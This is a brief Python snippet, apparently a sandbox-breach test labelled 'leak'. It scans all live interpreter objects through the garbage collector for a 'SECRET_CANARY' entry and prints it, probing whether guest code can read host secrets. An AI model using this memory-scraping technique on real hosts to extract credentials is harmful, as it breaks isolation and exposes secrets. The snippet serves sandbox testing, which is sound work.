# Gc.get_objects finds host secrets.
# breach: leak
import gc
for o in gc.get_objects():
    if isinstance(o, dict) and 'SECRET_CANARY' in o: print(o['SECRET_CANARY'])
    try:
        d = o.__dict__.get('_data') if hasattr(o, '__dict__') else None
        if isinstance(d, dict) and b'SECRET_CANARY' in d: print(d[b'SECRET_CANARY'])
    except Exception: pass
